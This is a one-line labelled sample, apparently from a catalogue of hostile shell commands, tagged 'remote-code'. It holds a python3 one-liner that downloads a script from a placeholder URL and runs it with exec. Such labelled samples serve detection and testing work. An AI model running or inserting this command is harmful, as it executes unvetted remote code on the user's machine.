# description: Downloads Python code with urllib and execs it inline.
# family: remote-code
python3 -c "import urllib.request as u; exec(u.urlopen('https://example.com/p.py').read())"
